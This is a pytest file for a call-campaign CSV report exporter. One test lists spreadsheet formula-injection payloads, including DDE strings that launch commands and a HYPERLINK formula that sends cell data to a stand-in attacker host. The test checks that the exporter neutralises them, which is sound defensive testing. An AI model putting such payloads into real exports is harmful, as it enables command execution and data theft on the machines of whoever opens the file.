"""The outcome report, read back with the csv module and with pandas, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import timedelta
from pathlib import Path

import pandas as pd
import pytest
from sqlalchemy import Engine
from test_report_builder import T0, Builder, in_process_cli

from campaigns import report
from campaigns.errors import UserError
from campaigns.report import ReportOptions, export_report
from storage.engine import make_engine

COLUMNS = [
    ["Customer Name", "customer_name"],
    ["Phone", "phone"],
    ["Notes, free text", "notes_free_text"],
    ["Property", "property"],
]
FIXED = [
    "phone_e164",
    "state",
    "outcome",
    "reason",
    "attempts",
    "last_call_id",
    "last_call_at",
    "duration_s",
    "summary",
    "callback_at",
    "callback_note",
]


@pytest.fixture
def engine(db_url: str) -> Iterator[Engine]:
    eng = make_engine(db_url)
    yield eng
    eng.dispose()


def read_csv_module(path: Path, encoding: str = "utf-8-sig") -> list[list[str]]:
    with path.open(encoding=encoding, newline="") as f:
        return list(csv.reader(f))


def scenario(b: Builder) -> int:
    """Six contacts inserted out of order, in every kind of final situation."""
    cid = b.campaign(COLUMNS)
    # row 3 first: the report must follow row_number, not insertion order
    c3 = b.contact(
        cid,
        row_number=3,
        raw_phone="098765 43212",
        attributes={"customer_name": 'Zoë, "the" boss', "notes_free_text": "line1\nline2"},
        state="exhausted",
        outcome="no_answer",
        attempts=2,
    )
    b.attempt(c3, attempt_no=1, outcome="no_answer", duration_s=0.0)
    b.attempt(c3, attempt_no=2, outcome="no_answer", duration_s=0.0, at=T0 + timedelta(hours=2))
    c1 = b.contact(
        cid,
        row_number=1,
        raw_phone="+91 98765 43210",
        attributes={"customer_name": "प्रिया शर्मा", "property": "Sea View 2BHK"},
        state="done",
        outcome="answered",
        attempts=2,
    )
    b.attempt(c1, attempt_no=1, outcome="busy")
    b.attempt(
        c1,
        attempt_no=2,
        outcome="answered",
        duration_s=42.5,
        summary="Wants a visit, Saturday.\nCall back after 6",
        entity={"email": "p@example.com", "visit": {"day": "sat", "slots": [10, 11]}, "ok": True},
        call_started_at=T0 + timedelta(hours=3),
    )
    # a third attempt the API refused (no call_id): not the "last call"
    b.attempt(c1, attempt_no=3, state="rejected", outcome=None, call_id=None)
    b.contact(
        cid,
        row_number=2,
        raw_phone="12345",
        phone_e164=None,
        attributes={"customer_name": "Bad Number"},
        state="invalid",
        reason="not a valid number for region IN",
    )
    b.contact(cid, row_number=5, state="suppressed", reason="on the do-not-call list")
    b.contact(cid, row_number=7, state="expired", reason="campaign ended", attributes={})
    c8 = b.contact(cid, row_number=8, state="done", outcome="answered", attempts=1)
    b.attempt(c8, entity={"email": "x@example.com", "budget": 1.5e6, "notes": None})
    return cid


def test_contact_report_reads_back_exactly(engine: Engine, tmp_path: Path) -> None:
    cid = scenario(Builder(engine))
    out = tmp_path / "r.csv"
    result = export_report(engine, cid, out)
    assert result.rows == 6
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")  # BOM for Excel

    rows = read_csv_module(out)
    entity_cols = ["entity.budget", "entity.email", "entity.notes", "entity.ok", "entity.visit"]
    assert rows[0] == [
        "Customer Name",
        "Phone",
        "Notes, free text",
        "Property",
        *FIXED,
        *entity_cols,
    ]
    body = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    assert [r["Phone"] for r in body] == [
        "+91 98765 43210",
        "12345",
        "098765 43212",
        "+919876543210",
        "+919876543210",
        "+919876543210",
    ]
    assert [r["phone_e164"] for r in body][3:] == [
        "+919800000005",
        "+919800000007",
        "+919800000008",
    ]
    r1, r2, r3, r5, r7, r8 = body
    assert r1["Customer Name"] == "प्रिया शर्मा"
    assert r1["Property"] == "Sea View 2BHK"
    assert (r1["state"], r1["outcome"], r1["attempts"]) == ("done", "answered", "2")
    assert r1["last_call_id"] == "call-000004"  # attempt 2, not the rejected attempt 3
    assert r1["last_call_at"] == "2026-11-20T13:00:00Z"
    assert r1["duration_s"] == "42.5"
    assert r1["summary"] == "Wants a visit, Saturday.\nCall back after 6"
    assert r1["entity.email"] == "p@example.com"
    assert json.loads(r1["entity.visit"]) == {"day": "sat", "slots": [10, 11]}
    assert r1["entity.visit"] == '{"day":"sat","slots":[10,11]}'  # compact
    assert r1["entity.ok"] == "true"
    assert r1["entity.budget"] == ""
    assert (r2["state"], r2["reason"], r2["phone_e164"]) == (
        "invalid",
        "not a valid number for region IN",
        "",
    )
    assert r2["last_call_id"] == r2["attempts"][:0] == ""
    assert r3["Customer Name"] == 'Zoë, "the" boss'
    assert r3["Notes, free text"] == "line1\nline2"
    assert (r3["state"], r3["outcome"], r3["last_call_at"]) == (
        "exhausted",
        "no_answer",
        "2026-11-20T12:00:01Z",  # accepted_at of attempt 2 (no call_started_at)
    )
    assert r3["duration_s"] == "0"
    assert (r5["state"], r5["reason"]) == ("suppressed", "on the do-not-call list")
    assert (r7["state"], r7["reason"]) == ("expired", "campaign ended")
    assert r8["entity.budget"] == "1500000.0"
    assert r8["entity.notes"] == ""

    # pandas reads the same thing (BOM handled, keep text as text)
    df = pd.read_csv(out, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert list(df.columns) == rows[0]
    assert df.to_dict("records") == body


def test_formula_payloads_are_neutralised_phone_numbers_intact(
    engine: Engine, tmp_path: Path
) -> None:
    b = Builder(engine)
    cid = b.campaign([['=HYPERLINK("http://x")', "h"], ["Phone", "phone"], ["Note", "note"]])
    payloads = [
        "=1+1",
        "@SUM(A1)",
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "\t=1",
        "\r=1",
        '=HYPERLINK("http://evil.example/?"&A1,"click")',
    ]
    for i, p in enumerate(payloads, start=1):
        k = b.contact(
            cid,
            raw_phone="+919876543210" if i % 2 else "+1 (555) 123-4567",
            attributes={"h": p, "note": "-12.5"},
            state="done",
            outcome="answered",
        )
        b.attempt(k, summary=p, entity={"evil": p, "amount": -3})
    out = tmp_path / "r.csv"
    export_report(engine, cid, out)
    rows = read_csv_module(out)
    assert rows[0][0] == '\'=HYPERLINK("http://x")'
    header = rows[0]
    for i, (row, p) in enumerate(zip(rows[1:], payloads, strict=True), start=1):
        cell = dict(zip(header, row, strict=True))
        assert cell['\'=HYPERLINK("http://x")'] == "'" + p
        assert cell["summary"] == "'" + p
        assert cell["entity.evil"] == "'" + p
        assert cell["Phone"] == ("+919876543210" if i % 2 else "+1 (555) 123-4567")
        assert cell["phone_e164"] == f"+9198{i:08d}"
        assert cell["Note"] == "-12.5"
        assert cell["entity.amount"] == "-3"
        for value in row:
            assert not value or value[0] not in "=@\t\r" or value.startswith("'")
    df = pd.read_csv(out, dtype=str, keep_default_na=False, encoding="utf-8-sig")
    assert list(df["phone_e164"]) == [f"+9198{i:08d}" for i in range(1, 8)]


def test_filters_columns_and_since(engine: Engine, tmp_path: Path) -> None:
    cid = scenario(Builder(engine))
    out = tmp_path / "r.csv"

    def run(**kw: object) -> list[list[str]]:
        export_report(engine, cid, out, ReportOptions(**kw))  # type: ignore[arg-type]
        return read_csv_module(out)

    rows = run(states=frozenset({"invalid", "suppressed"}), columns=("state", "Phone", "reason"))
    assert rows == [
        ["state", "Phone", "reason"],
        ["invalid", "12345", "not a valid number for region IN"],
        ["suppressed", "+919876543210", "on the do-not-call list"],
    ]
    rows = run(outcomes=frozenset({"answered"}), columns=("entity.email",))
    assert rows == [["entity.email"], ["p@example.com"], ["x@example.com"]]
    # --since: contacts updated or attempted at or after the time
    Builder(engine).contact(cid, row_number=9, updated_at=T0 + timedelta(days=1))
    rows = run(since=T0 + timedelta(hours=1), columns=("Phone",))
    assert rows == [["Phone"], ["+919876543210"]]

    with pytest.raises(
        UserError, match=r"unknown column\(s\) for --columns: nope.*Available: Customer Name, Phone"
    ):
        run(columns=("Phone", "nope"))
    with pytest.raises(UserError, match=r"unknown contact state.*finished"):
        run(states=frozenset({"finished"}))
    with pytest.raises(UserError, match="unknown outcome"):
        run(outcomes=frozenset({"great"}))
    with pytest.raises(UserError, match="no campaign with id 999"):
        export_report(engine, 999, out)


def test_attempts_report(engine: Engine, tmp_path: Path) -> None:
    cid = scenario(Builder(engine))
    out = tmp_path / "a.csv"
    n = export_report(engine, cid, out, ReportOptions(attempts=True, bom=False)).rows
    assert not out.read_bytes().startswith(b"\xef\xbb\xbf")
    rows = read_csv_module(out, encoding="utf-8")
    header = rows[0]
    assert header[:4] == ["Customer Name", "Phone", "Notes, free text", "Property"]
    assert header[4:8] == ["phone_e164", "attempt_no", "state", "call_id"]
    body = [dict(zip(header, r, strict=True)) for r in rows[1:]]
    assert n == len(body) == 6
    assert [(r["Phone"], r["attempt_no"], r["state"], r["outcome"]) for r in body] == [
        ("+91 98765 43210", "1", "finished", "busy"),
        ("+91 98765 43210", "2", "finished", "answered"),
        ("+91 98765 43210", "3", "rejected", ""),
        ("098765 43212", "1", "finished", "no_answer"),
        ("098765 43212", "2", "finished", "no_answer"),
        ("+919876543210", "1", "finished", "answered"),
    ]
    assert body[1]["entity.email"] == "p@example.com"
    assert body[1]["created_at"] == "2026-11-20T10:00:00Z"
    assert body[1]["finished_at"] == "2026-11-20T10:01:00Z"
    assert body[2]["call_id"] == body[2]["accepted_at"] == ""
    export_report(engine, cid, out, ReportOptions(attempts=True, states=frozenset({"rejected"})))
    assert len(read_csv_module(out)) == 2
    with pytest.raises(UserError, match=r"unknown attempt state.*exhausted"):
        export_report(
            engine, cid, out, ReportOptions(attempts=True, states=frozenset({"exhausted"}))
        )


@pytest.mark.parametrize("attempts", [False, True])
def test_pages_with_gaps_give_every_row_once_in_order(
    engine: Engine, tmp_path: Path, attempts: bool
) -> None:
    b = Builder(engine)
    cid = b.campaign()
    other = b.campaign()
    numbers = [1, 2, 4, 5, 9, 10, 11, 30, 31, 32, 33]  # gaps, and pages of 3 cut mid-way
    for i, rn in enumerate(numbers):
        k = b.contact(cid, row_number=rn, attributes={"name": f"n{rn}"})
        b.contact(other, row_number=rn, attributes={"name": "other"}, phone_e164=f"+1555{rn:07d}")
        for no in range(1, i % 3 + 1):
            b.attempt(k, attempt_no=no, outcome="no_answer")
    out = tmp_path / "p.csv"
    export_report(engine, cid, out, ReportOptions(attempts=attempts, page_size=3))
    rows = read_csv_module(out)[1:]
    names = [r[1] for r in rows]
    if attempts:
        expected = [f"n{rn}" for i, rn in enumerate(numbers) for _ in range(i % 3)]
        assert [int(r[3]) for r in rows] == [
            no for i in range(len(numbers)) for no in range(1, i % 3 + 1)
        ]
    else:
        expected = [f"n{rn}" for rn in numbers]
    assert names == expected


def test_our_column_names_do_not_clash_with_original_headers(
    engine: Engine, tmp_path: Path
) -> None:
    b = Builder(engine)
    cid = b.campaign([["Phone", "phone"], ["state", "state"], ["entity.x", "entity_x"]])
    k = b.contact(cid, attributes={"state": "Kerala", "entity_x": "mine"}, state="done")
    b.attempt(k, entity={"x": "theirs"})
    out = tmp_path / "c.csv"
    export_report(engine, cid, out)
    header, row = read_csv_module(out)
    cells = dict(zip(header, row, strict=True))
    assert cells["state"] == "Kerala"
    assert cells["vaani_state"] == "done"
    assert len(header) == len(set(header)) + 1  # "entity.x" appears twice: theirs and ours
    assert row[header.index("entity.x")] == "mine"
    assert row[len(header) - 1] == "theirs"


def test_cli_writes_stdout_and_json(
    db_url: str,
    tmp_path: Path,
    capsysbinary: pytest.CaptureFixture[bytes],
    request: pytest.FixtureRequest,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    cli = in_process_cli(request, monkeypatch)
    eng = make_engine(db_url)
    cid = scenario(Builder(eng))
    eng.dispose()
    args = ("--db", db_url, "report", str(cid))
    code = cli(
        *args, "--out", "-", "--no-bom", "--state", "done,invalid", "--columns", "Phone,state"
    )
    out, err = capsysbinary.readouterr()
    assert code == 0, err
    assert list(csv.reader(io.StringIO(out.decode()))) == [
        ["Phone", "state"],
        ["+91 98765 43210", "done"],
        ["12345", "invalid"],
        ["+919876543210", "done"],
    ]
    target = tmp_path / "out.csv"
    code = cli(*args, "--out", str(target), "--json")
    out, err = capsysbinary.readouterr()
    assert code == 0, err
    assert json.loads(out) == {"path": str(target), "rows": 6}
    code = cli(*args, "--out", str(target), "--since", "yesterday")
    out, err = capsysbinary.readouterr()
    assert code == 1
    assert b"--since 'yesterday' is not an ISO 8601" in err
    assert b"Traceback" not in err
    code = cli("--db", db_url, "report", "424242", "--out", str(tmp_path / "none.csv"))
    out, err = capsysbinary.readouterr()
    assert code == 1
    assert b"no campaign with id 424242" in err
    assert not (tmp_path / "none.csv").exists()
    code = cli(*args, "--out", str(tmp_path / "no-such-dir" / "r.csv"))
    out, err = capsysbinary.readouterr()
    assert code == 1
    assert b"no-such-dir does not exist; create it first" in err
    assert b"Traceback" not in err
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []


@pytest.mark.parametrize("attempts", [False, True])
def test_parallel_parts_give_the_same_bytes(engine: Engine, tmp_path: Path, attempts: bool) -> None:
    b = Builder(engine)
    cid = b.campaign(COLUMNS)
    for rn in [*range(1, 12), 20, 21, 40]:  # uneven gaps so that spans cut mid-way
        k = b.contact(cid, row_number=rn, attributes={"customer_name": f"n{rn}, =x"})
        for no in range(1, rn % 3 + 1):
            b.attempt(k, attempt_no=no, entity={"k": rn} if no == 2 else None)
    one, many = tmp_path / "one.csv", tmp_path / "many.csv"
    opts = {"attempts": attempts, "page_size": 2, "columns": None}
    r1 = export_report(engine, cid, one, ReportOptions(**opts, workers=1))  # type: ignore[arg-type]
    r3 = export_report(
        engine,
        cid,
        many,
        ReportOptions(**opts, workers=3, parallel_min_contacts=0),  # type: ignore[arg-type]
    )
    assert r1.rows == r3.rows > 10
    assert many.read_bytes() == one.read_bytes()
    # the export above really was cut in three
    spans = report._spans(engine, cid, ReportOptions(workers=3, parallel_min_contacts=0))
    assert spans == [(-1, 4), (4, 9), (9, None)]  # 14 contacts: 4, 5 and 5
    assert not [p for p in tmp_path.iterdir() if p.suffix in (".part", ".tmp")]
